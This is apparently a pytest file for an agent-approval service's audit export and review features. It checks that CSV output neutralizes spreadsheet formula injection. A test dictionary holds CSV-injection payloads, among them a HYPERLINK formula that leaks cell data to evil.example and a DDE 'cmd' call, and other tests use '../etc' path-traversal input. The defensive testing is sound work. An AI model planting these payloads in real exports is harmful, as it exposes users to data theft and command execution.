"""The audit trail (docs/audit.md), on a real server, a real worker and real stores: the
records of human-answered, autonomous and timed-out gates exported by `vicar` processes
that have their own, empty data directory (they reach the records through Temporal
only), as JSON lines and CSV, since a time, in many small pages, across principals; and
reviews of autonomous answers, with the `overruled` webhook a local receiver gets."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import uuid
from dataclasses import dataclass, field
from datetime import datetime
from pathlib import Path

import jsonschema
import pytest
import pytest_asyncio
from temporalio.client import WorkflowFailureError
from temporalio.worker import Replayer

from vicar import contracts as c
from vicar.client.gates import start_gate
from vicar.client.schema import document
from vicar.errors import Conflict, NotFound, NotResponding, NotReviewable
from vicar.models import GateResult
from vicar.models.audit import AuditPage, AuditPageRequest, AuditRecord, ReviewRequest, ReviewResult, csv_columns
from vicar.proxy.outcomes import INTERACTIONS_FILE
from vicar.proxy.reviews import review_labels
from vicar.responders import change_allowed, responders_path, save_allowed
from vicar.runtime.codec import data_converter
from vicar.workflows.audit import AuditWorkflow, ReviewWorkflow
from vicar.workflows.gate import GateWorkflow

from .conftest import LOOSE_AUTONOMY, VicarHarness, vicar_process, wait_escalated
from .test_deadline import Receiver
from .test_gate import run_answering

# Cells a spreadsheet would run as formulas (OWASP's CSV injection), as q's gate says them.
FORMULAS = {
    "question": '=HYPERLINK("http://evil.example/?leak="&A1,"Approve")',
    "artifact_excerpt": "@SUM(1+1)*cmd|' /C calc'!A0",
    "words": "+Not this week.",
}
FORMULAS["artifact"] = FORMULAS["artifact_excerpt"]


@dataclass
class World:
    h: VicarHarness
    receiver: Receiver
    client_dir: Path
    p: str
    q: str
    results: dict[str, GateResult] = field(default_factory=dict)  # gate id -> result, p's gates in order
    q_gate: str = ""


@pytest_asyncio.fixture(scope="module")
async def world(temporal_env, embedder, tmp_path_factory):
    from vicar.memory.registry import MemoryRegistry
    from vicar.settings import CalibrationParams, Settings
    from vicar.worker import build_worker

    receiver = Receiver(fail_first=0)
    home = tmp_path_factory.mktemp("audit")
    settings = Settings(
        data_dir=home / "worker", calibration=CalibrationParams(autonomy=LOOSE_AUTONOMY), webhook_url=receiver.url
    )
    task_queue = f"tq-{uuid.uuid4().hex[:8]}"
    registry = MemoryRegistry(settings.principals_dir, lambda: embedder, settings.memory)
    worker, _ = build_worker(temporal_env.client, settings, registry=registry, task_queue=task_queue)
    try:
        async with worker:
            h = VicarHarness(temporal_env.client, task_queue, registry, settings)
            w = World(h, receiver, home / "client", h.principal(), h.principal())
            # Three answers by the human, then two by the proxy alone (mode never: whatever
            # the autonomy rule has proven by then).
            for i, mode in enumerate(["always"] * 3 + ["never"] * 2):
                req = h.request(
                    w.p, task_type="docs", escalation_mode=mode, artifact=f"Fix typo number {i} in the install guide."
                )
                w.results[req.gate_id] = await run_answering(h, req)
            req = h.request(w.p, escalation_mode="always", deadline_seconds=2, artifact="Drop the users table.")
            w.results[req.gate_id] = await (await start_gate(h.client, req, task_queue)).result()
            # q's texts are what an agent or a person could write to attack a spreadsheet.
            req = h.request(w.q, question=FORMULAS["question"], upstream_agent="ci-bot", artifact=FORMULAS["artifact"])
            w.q_gate = req.gate_id
            await run_answering(h, req, action="reject", text=FORMULAS["words"])
            yield w
    finally:
        registry.close()
        receiver.server.shutdown()


async def vicar(w: World, *args: str, queue: str | None = None) -> tuple[int, str, str]:
    """A `vicar` process with its own data directory: it reaches only Temporal."""
    return await vicar_process(w.h, w.client_dir, *args, queue=queue)


def jsonl(out: str) -> list[AuditRecord]:
    return [AuditRecord.model_validate_json(line) for line in out.splitlines() if line.strip()]


async def test_export_holds_every_gate_as_it_happened_from_a_machine_without_the_memory(world):
    w = world
    code, out, err = await vicar(w, "audit", "export", "--principal", w.p, "--page-bytes", "1000")
    assert code == 0, err
    records = jsonl(out)
    assert [r.gate_id for r in records] == list(w.results)  # one per gate, in the order they ended
    schema = document()["schemas"]["AuditRecord"]  # what `vicar schema` publishes
    for line in out.splitlines():
        jsonschema.validate(json.loads(line), schema)
    assert not (w.client_dir / "principals" / w.p).exists()  # read through Temporal, not from disk
    pages = int(err.split(" records in ")[1].split()[0])
    assert pages >= len(records) // 2 > 1, err  # 1000-byte pages: a record or two each
    kinds = {"human": 0, "proxy": 0, "nobody": 0}
    for r in records:
        res = w.results[r.gate_id]
        kinds[r.answered_by] += 1
        assert (r.principal, r.workflow_id, r.n) == (w.p, f"vicar-gate/{r.gate_id}", res.n)
        assert r.answered_by == res.answered_by.value and r.action == res.action.value and r.words == res.text
        assert r.question == "Approve or revise the proposed plan." and r.artifact_hash and r.artifact_excerpt
        assert (r.guard, r.confidence) == (res.calibration_guard, res.confidence)
        assert (r.threshold, r.bound) == (res.autonomy_threshold, res.autonomy_bound)
        assert r.started_at is not None and r.answered_at is not None and r.started_at <= r.answered_at
        assert r.score is not None and r.escalated == res.escalated
        if r.escalated:
            assert r.escalated_at is not None and r.started_at <= r.escalated_at <= r.answered_at
        else:
            assert r.escalated_at is None
        if r.answered_by == "human":
            assert r.responder == "alice" and r.responder_identity == res.responder_identity is not None
        if r.answered_by == "proxy":
            assert r.responder is None and r.proxy_action == r.action and r.guard
            # The memories it used: ids resolved to what they say (earlier docs gates).
            assert r.memories and all(m.excerpt for m in r.memories)
            assert any("docs" in m.excerpt and "approve" in m.excerpt for m in r.memories)
        if r.answered_by == "nobody":
            assert r.timed_out and r.action == "hold" and r.words.startswith("No answer by the deadline")
            assert (r.answered_at - r.escalated_at).total_seconds() >= 1.5
            assert r.artifact_excerpt == "Drop the users table."
    assert kinds == {"human": 3, "proxy": 2, "nobody": 1}
    # The worker's own log of interactions never had the timed-out gate.
    timed_out = next(r.gate_id for r in records if r.timed_out)
    side = (w.h.settings.principals_dir / w.p / INTERACTIONS_FILE).read_text()
    assert len(side.splitlines()) == len(records) - 1 and timed_out not in side


async def test_csv_since_and_every_principal(world):
    w = world
    code, out, err = await vicar(w, "audit", "export", "--principal", w.p, "-o", "csv")
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    assert list(rows[0]) == csv_columns() and [r["gate_id"] for r in rows] == list(w.results)
    proxy = next(r for r in rows if r["answered_by"] == "proxy")
    assert json.loads(proxy["memories"])[0]["excerpt"] and float(proxy["score"]) > 0
    # Since the third gate's answer: the gates from it on.
    third = rows[2]["answered_at"]
    code, out, err = await vicar(w, "audit", "export", "--principal", w.p, "--since", third)
    assert code == 0, err
    later = jsonl(out)
    assert [r.gate_id for r in later] == list(w.results)[2:]
    assert all(r.answered_at >= datetime.fromisoformat(third) for r in later)
    # Every principal of this deployment (brains on its task queue).
    code, out, err = await vicar(w, "audit", "export")
    assert code == 0, err
    records = jsonl(out)
    assert {r.principal for r in records} == {w.p, w.q} and len(records) == len(w.results) + 1
    q = next(r for r in records if r.principal == w.q)
    assert (q.gate_id, q.action, q.words, q.answered_by) == (w.q_gate, "reject", FORMULAS["words"], "human")
    assert (q.question, q.artifact_excerpt) == (FORMULAS["question"], FORMULAS["artifact_excerpt"])  # JSON: as said
    assert f"{len(records)} records of 2 principals" in err
    # The CSV neutralizes them: a cell that starts with = + - @ (or a tab or CR) starts
    # with a ' instead, which a spreadsheet shows as text; nothing else changes.
    code, out, err = await vicar(w, "audit", "export", "--principal", w.q, "-o", "csv")
    assert code == 0, err
    (row,) = list(csv.DictReader(io.StringIO(out)))
    assert {k: row[k] for k in FORMULAS if k != "artifact"} == {
        k: "'" + v for k, v in FORMULAS.items() if k != "artifact"
    }
    assert row["upstream_agent"] == "ci-bot" and row["action"] == "reject"
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row.values() if cell), row
    code, _, err = await vicar(w, "audit", "export", "--principal", "nobody-here")
    assert code == NotFound.exit_code and err.startswith("error: ") and len(err.splitlines()) == 1, err


def test_every_formula_start_is_neutralized_and_numbers_stay_numbers():
    from vicar.models.audit import csv_text

    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_text(f"{start}1+1") == f"'{start}1+1"
    assert csv_text("Fine: 1+1=2") == "Fine: 1+1=2" and csv_text("") == ""
    record = AuditRecord(
        principal="p",
        gate_id="g-1",
        workflow_id="vicar-gate/g-1",
        kind="gate",
        state="PLAN_ASSERT",
        task_type="docs",
        n=3,
        question="-1+1",
        answered_by="human",
        escalated=True,
        action="approve",
        words="\t=cmd",
        score=-0.5,
        guards_fired=["=x"],
    )
    row = record.csv_row()
    assert (row["question"], row["words"], row["score"], row["n"]) == ("'-1+1", "'\t=cmd", "-0.5", "3")
    assert row["guards_fired"] == '["=x"]'  # JSON starts with [ : not a formula


async def test_review_labels_an_autonomous_answer_and_a_wrong_one_is_overruled(world):
    w = world
    alone = [g for g, r in w.results.items() if r.answered_by.value == "proxy"]
    human = next(g for g, r in w.results.items() if r.answered_by.value == "human")
    timed_out = next(g for g, r in w.results.items() if r.timed_out)
    wrong, right = alone
    # Closed by default (issue 34 item 12): with no allow-list, only the principal itself
    # reviews; anyone else is let in by name (or all by --anyone), explicitly and logged.
    responders_path(w.h.settings.principals_dir, w.p).unlink()  # the list its gates were answered under
    for reviewer in ("mallory", "bob"):
        code, _, err = await vicar(w, "review", wrong, "wrong", "--reviewer", reviewer)
        assert code == Conflict.exit_code and len(err.splitlines()) == 1, err
        assert f"{reviewer!r} may not review for {w.p}: {w.p} has no allow-list" in err, err
    assert review_labels(w.h.registry.get(w.p).store) == []
    change_allowed(w.h.settings.principals_dir, w.p, "allow", ["bob", "carol"], by="operator")
    code, out, err = await vicar(w, "review", wrong, "wrong", "--note", "the guide was frozen", "--reviewer", "bob")
    assert code == 0, err
    assert "recorded" in out and "overruled" in out
    overruled = [(b, k) for b, k in w.receiver.posts if b["event"] == "overruled"]
    assert len(overruled) == 1
    body, key = overruled[0]
    assert key == body["event_id"] == f"vicar-gate/{wrong}/overruled"
    assert body["gate"]["gate_id"] == wrong and body["gate"]["proxy_action"] == w.results[wrong].action.value
    assert (body["review"]["verdict"], body["review"]["reviewer"]) == ("wrong", "bob")
    assert body["review"]["note"] == "the guide was frozen" and body["review"]["identity"]
    # Once per gate: the same again changes nothing; the other verdict is refused.
    code, out, err = await vicar(w, "review", wrong, "wrong", "--reviewer", "bob")
    assert code == 0 and "already recorded" in out, err
    code, _, err = await vicar(w, "review", wrong, "right", "--reviewer", "carol")
    assert code == Conflict.exit_code and "reviewed wrong by bob" in err, err
    # Only answers the proxy gave alone; nothing for a gate that does not exist.
    for gate in (human, timed_out):
        code, _, err = await vicar(w, "review", gate, "wrong", "--reviewer", "bob")
        assert code == NotReviewable.exit_code and len(err.splitlines()) == 1, err
    code, _, err = await vicar(w, "review", "no-such-gate", "wrong", "--reviewer", "bob")
    assert code == NotFound.exit_code and len(err.splitlines()) == 1, err
    # The principal's allow-list decides who may review.
    save_allowed(w.h.settings.principals_dir, w.p, ["alice"])
    code, _, err = await vicar(w, "review", right, "right", "--reviewer", "mallory")
    assert code == Conflict.exit_code and "mallory" in err, err
    code, _, err = await vicar(w, "review", right, "right", "--reviewer", "alice")
    assert code == 0, err
    labels = review_labels(w.h.registry.get(w.p).store)
    assert [(x.workflow_id, x.right, x.reviewer) for x in labels] == [
        (f"vicar-gate/{wrong}", False, "bob"),
        (f"vicar-gate/{right}", True, "alice"),
    ]
    assert labels[0].note == "the guide was frozen" and 0 < labels[0].score <= 1
    assert labels[0].state == "PLAN_ASSERT" and labels[0].task_type == "docs" and labels[0].seq < labels[1].seq
    assert len([b for b, _ in w.receiver.posts if b["event"] == "overruled"]) == 2  # the repeat, same event id
    code, out, err = await vicar(w, "audit", "export", "--principal", w.p)
    reviewed = {r.gate_id: r.review for r in jsonl(out) if r.review}
    assert {g: (rv.verdict, rv.reviewer) for g, rv in reviewed.items()} == {
        wrong: ("wrong", "bob"),
        right: ("right", "alice"),
    }


# In the review test's tier, after it: both review the world's gates, and the review test
# starts from the principal with no allow-list and no review (tests/tiers.py orders by tier).
@pytest.mark.system
async def test_the_audit_workflows_and_a_timed_out_gate_replay(world):
    """What the audit page, the review and a gate that times out (with its new audit step)
    record replays; with VICAR_RECORD_HISTORIES set, the histories are kept for
    tests/test_replay_histories.py (see there how to record)."""
    w = world
    h = w.h
    save_allowed(h.settings.principals_dir, w.p, ["alice"])  # alice reviews below, whatever ran before
    page = await h.client.start_workflow(
        c.AUDIT_WORKFLOW,
        AuditPageRequest(principal=w.p, max_bytes=2000),
        id=c.audit_workflow_id(w.p, uuid.uuid4().hex),
        task_queue=h.task_queue,
        result_type=AuditPage,
    )
    assert (await page.result()).records
    wrong = next(g for g, r in w.results.items() if r.answered_by.value == "proxy")
    review = await h.client.start_workflow(
        c.REVIEW_WORKFLOW,
        ReviewRequest(principal=w.p, gate_workflow_id=f"vicar-gate/{wrong}", verdict="wrong", reviewer="alice"),
        id=c.review_workflow_id(uuid.uuid4().hex),
        task_queue=h.task_queue,
        result_type=ReviewResult,
    )
    assert (await review.result()).review is not None
    timed_out = next(g for g, r in w.results.items() if r.timed_out)
    histories = {
        "audit-page": await page.fetch_history(),
        "review": await review.fetch_history(),
        "gate-deadline-audit": await h.client.get_workflow_handle(c.gate_workflow_id(timed_out)).fetch_history(),
    }
    # The page's records are memory: in history they are sealed, never plaintext.
    results = [
        e.activity_task_completed_event_attributes.result.payloads[0]
        for e in histories["audit-page"].events
        if e.HasField("activity_task_completed_event_attributes")
    ]
    assert len(results) == 2 and all(r.metadata["encoding"] == b"binary/encrypted" for r in results)
    assert all(w.p.encode() not in r.data for r in results)
    replayer = Replayer(workflows=[GateWorkflow, AuditWorkflow, ReviewWorkflow], data_converter=data_converter())
    for name, history in histories.items():
        result = await replayer.replay_workflow(history, raise_on_replay_failure=False)
        assert result.replay_failure is None, f"{name}: {result.replay_failure}"
    if os.environ.get("VICAR_RECORD_HISTORIES"):
        from .test_replay_histories import _save

        # The gate's own recordings come from test_replay_histories.py (its deadline history).
        _save(os.environ["VICAR_RECORD_HISTORIES"], {k: histories[k] for k in ("audit-page", "review")})


async def test_hostile_input_is_one_line_and_a_distinct_code(world):
    from temporalio.client import WorkflowFailureError

    w = world
    for bad in ({"principal": "../etc"}, {"principal": w.p, "max_bytes": 10**9}, {"principal": w.p, "evil": 1}):
        handle = await w.h.client.start_workflow(
            c.AUDIT_WORKFLOW, bad, id=c.audit_workflow_id("x", uuid.uuid4().hex), task_queue=w.h.task_queue
        )
        with pytest.raises(WorkflowFailureError) as failed:
            await asyncio.wait_for(handle.result(), 30)  # at once: no retry loop
        assert "invalid audit page request" in str(failed.value.cause)
    for args in (
        ("audit", "export", "--principal", "../etc"),
        ("audit", "export", "--since", "last tuesday"),
        ("review", "g-1", "maybe"),
        ("review", "g 1", "wrong", "--reviewer", "bob"),
        ("review", "g-1", "wrong", "--reviewer", "bob", "--note", "x" * 5000),
    ):
        code, out, err = await vicar(w, *args)
        assert code == 2 and out == "" and err.startswith("error: ") and len(err.splitlines()) == 1, (args, err)
    # No worker on the queue: said at once, not a page that waits for one.
    for args in (("audit", "export", "--principal", w.p), ("review", w.q_gate, "wrong", "--reviewer", "bob")):
        code, out, err = await vicar(w, *args, queue="tq-nobody")
        assert code == NotResponding.exit_code and "no worker polls" in err and len(err.splitlines()) == 1, err


async def test_each_principal_is_read_on_the_shard_that_holds_its_memory(temporal_env, embedder, settings, tmp_path):
    """Sharded: two workers, each with its own data directory; each principal's records
    come from the one that holds its memory."""
    from vicar.client.audit import audit_pages, audited_principals
    from vicar.runtime.sharding import shard_of

    from .shard_homes import two_homes

    two = await two_homes(temporal_env, embedder, settings, tmp_path, "au")
    q = next(x for x in (f"au-{uuid.uuid4().hex[:6]}-{i}" for i in range(100)) if shard_of(x, 2) == 1)
    two.let_in(q)
    try:
        async with two.groups[0], two.groups[1]:
            h = VicarHarness(temporal_env.client, two.task_queue, two.registries[0], two.base)
            for p in (two.principal, q):
                await run_answering(h, h.request(p, task_type="docs", artifact=f"Fix a typo for {p}."))
            assert await audited_principals(h.client, two.task_queue) == sorted([two.principal, q])
            for k, p in enumerate((two.principal, q)):
                pages = [page async for page in audit_pages(h.client, p, task_queue=two.task_queue)]
                records = [r for page in pages for r in page.records]
                assert [(r.principal, r.answered_by, r.responder) for r in records] == [(p, "human", "alice")]
                assert (two.homes[k].principals_dir / p / "memory.db").is_file()
                assert not (two.homes[1 - k].principals_dir / p).exists()
    finally:
        two.close()


async def test_a_gate_cancelled_while_it_waits_keeps_its_record(world):
    """Cancelled by the orchestrator before anyone answered: exported as answered by
    nobody, cancelled (not timed out), with why it escalated; its history, with the new
    step, replays. (Last in the file: it adds a principal the exports above do not expect.)"""
    w, h = world, world.h
    r = h.principal()
    req = h.request(r, escalation_mode="always", artifact="Rename the config key.")
    handle = await start_gate(h.client, req, h.task_queue)
    await wait_escalated(h.client, req.gate_id)
    await handle.cancel()
    with pytest.raises(WorkflowFailureError):
        await handle.result()
    code, out, err = await vicar(w, "audit", "export", "--principal", r)
    assert code == 0, err
    (rec,) = jsonl(out)
    assert (rec.gate_id, rec.answered_by, rec.action) == (req.gate_id, "nobody", "hold")
    assert rec.cancelled and not rec.timed_out and rec.escalated and rec.words == "Cancelled before anyone answered."
    # a new principal: no guess yet, and the reason it went to the human
    assert rec.guard == "unsupported" and rec.why and rec.n >= 1 and rec.escalated_at is not None
    assert rec.artifact_excerpt == "Rename the config key."
    replayer = Replayer(workflows=[GateWorkflow], data_converter=data_converter())
    result = await replayer.replay_workflow(await handle.fetch_history(), raise_on_replay_failure=False)
    assert result.replay_failure is None, result.replay_failure
